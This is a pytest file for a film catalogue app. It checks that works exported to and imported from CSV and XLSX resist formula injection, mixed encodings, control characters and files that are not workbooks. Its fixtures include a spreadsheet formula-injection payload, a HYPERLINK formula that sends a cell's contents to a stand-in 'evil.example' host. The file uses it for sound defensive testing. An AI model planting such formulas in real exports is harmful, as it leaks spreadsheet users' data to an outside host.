"""Works files as hostile input: titles that look like formulas survive export and import exactly,
mixed encodings and control characters are refused naming the row (and column), a file that is
no workbook is a clear refusal."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from kinomost.catalog.io import export_works, import_works
from kinomost.catalog.models import Work
from kinomost.catalog.services import WorkInput, save_work
from kinomost.core.errors import ImportRejected

HOSTILE = {
    "F-1": '=HYPERLINK("http://evil.example/?"&B5,"Click")',
    "F-2": "+7 495 123-45-67",
    "F-3": "-1",
    "F-4": "@SUM(1)",
    "F-5": "'=quoted already",
    "F-6": "＝全角",
}


def _titles(org) -> dict[str, str]:
    return {w.ref: w.localizations.get(language="en").title for w in Work.objects.filter(owner=org)}


@pytest.fixture
def hostile_titles(org_a):
    for ref, title in HOSTILE.items():
        save_work(org_a, WorkInput(ref=ref, kind="feature", titles={"en": title}))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_titles_that_look_like_formulas_round_trip_exactly(hostile_titles, org_a, org_b, fmt):
    data = export_works(org_a, fmt)
    import_works(data, f"works.{fmt}", org_b)
    assert _titles(org_b) == HOSTILE
    import_works(data, f"works.{fmt}", org_a)  # and importing the export over the same works changes nothing
    assert _titles(org_a) == HOSTILE


def test_the_csv_export_has_no_cell_that_starts_a_formula(hostile_titles, org_a):
    import csv

    rows = list(csv.reader(io.StringIO(export_works(org_a, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert cells and not [c for c in cells if c[0] in "=+-@\t\r＝＋－＠"]
    assert '\'=HYPERLINK("http://evil.example/?"&B5,"Click")' in cells and "'-1" in cells


def test_the_xlsx_export_writes_such_titles_as_string_cells(hostile_titles, org_a):
    sheet = load_workbook(io.BytesIO(export_works(org_a, "xlsx"))).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value in HOSTILE.values()}
    assert cells == {title: "s" for title in HOSTILE.values()}


def test_a_formula_typed_into_a_csv_is_still_refused(org_a):
    with pytest.raises(ImportRejected) as refused:
        import_works(b"ref,kind,title:en\nA,feature,=1+2\n", "w.csv", org_a)
    assert refused.value.problems == [{"row": 2, "column": "title:en", "message": "formulas are not imported; paste the values instead"}]


# --- encodings ---------------------------------------------------------------------------------------


def test_a_csv_mixing_utf8_and_other_bytes_is_refused_naming_the_row(org_a):
    data = "ref,kind,title:ru\nA,feature,Брат\n".encode() + "B,feature,Дура\n".encode("cp1251") + "C,feature,Сталинград\n".encode()
    with pytest.raises(ImportRejected) as refused:
        import_works(data, "w.csv", org_a)
    assert [(p["row"], p["column"]) for p in refused.value.problems] == [(3, "title:ru")]
    assert "2, 4" in refused.value.problems[0]["message"]
    assert not Work.objects.filter(owner=org_a).exists()


@pytest.mark.parametrize("encoding", ["cp1251", "gb18030"])
def test_a_whole_file_in_one_legacy_encoding_is_still_recognised(org_a, encoding):
    # 小说 in GB18030 is also valid UTF-8 ("С˵"): a row like it must not make the file "mixed"
    text = "ref,kind,title:ru,title:zh-Hans\nA,feature,Брат,小说\nB,feature,Сталинград,斯大林格勒\n"
    if encoding == "cp1251":
        text = text.replace(",小说", ",").replace(",斯大林格勒", ",")
    import_works(text.encode(encoding), "w.csv", org_a)
    assert Work.objects.get(owner=org_a, ref="B").localizations.get(language="ru").title == "Сталинград"
    if encoding == "gb18030":
        assert Work.objects.get(owner=org_a, ref="A").localizations.get(language="zh-Hans").title == "小说"


def test_a_given_encoding_still_wins_and_a_row_not_in_it_is_named(org_a):
    import_works("ref,kind,title:ru\nA,feature,Брат\n".encode("cp1251"), "w.csv", org_a, encoding="cp1251")
    assert Work.objects.get(owner=org_a, ref="A").localizations.get(language="ru").title == "Брат"
    with pytest.raises(ImportRejected) as refused:
        import_works(b"ref,kind,title:ru\nB,feature,ok\nC,feature,\xff\xfe\n", "w.csv", org_a, encoding="utf-8")
    assert [(p["row"], p["column"]) for p in refused.value.problems] == [(3, "title:ru")]


# --- control characters ------------------------------------------------------------------------------


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x85"])
def test_control_characters_are_refused_naming_row_and_column(org_a, char):
    data = f"ref,kind,title:en\nA,feature,Fine\nB,feature,Bad{char}title\n".encode()
    with pytest.raises(ImportRejected) as refused:
        import_works(data, "w.csv", org_a)
    assert [(p["row"], p["column"]) for p in refused.value.problems] == [(3, "title:en")]
    assert f"U+{ord(char):04X}" in refused.value.problems[0]["message"]
    assert not Work.objects.filter(owner=org_a).exists()


def test_tabs_and_line_breaks_inside_a_synopsis_are_text(org_a):
    import_works(b'ref,kind,title:en,synopsis:en\nA,feature,Fine,"one\nline\tand another"\n', "w.csv", org_a)
    assert Work.objects.get(owner=org_a, ref="A").localizations.get().synopsis == "one\nline\tand another"


# --- not a workbook ----------------------------------------------------------------------------------


def test_a_file_named_xlsx_that_is_no_zip_is_a_422_over_the_api_and_a_report_on_the_page(client_a, org_a, token_a):
    upload = SimpleUploadedFile("works.xlsx", b"this is not a workbook")
    r = client_a.post("/api/v1/works/import", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {token_a}")
    assert r.status_code == 422 and "not an XLSX workbook" in r.json()["message"]
    page = client_a.post("/studio/works/import/", {"file": SimpleUploadedFile("works.xlsx", b"PK\x03\x04 broken")})
    assert page.status_code == 200 and 'id="import-report"' in page.content.decode()
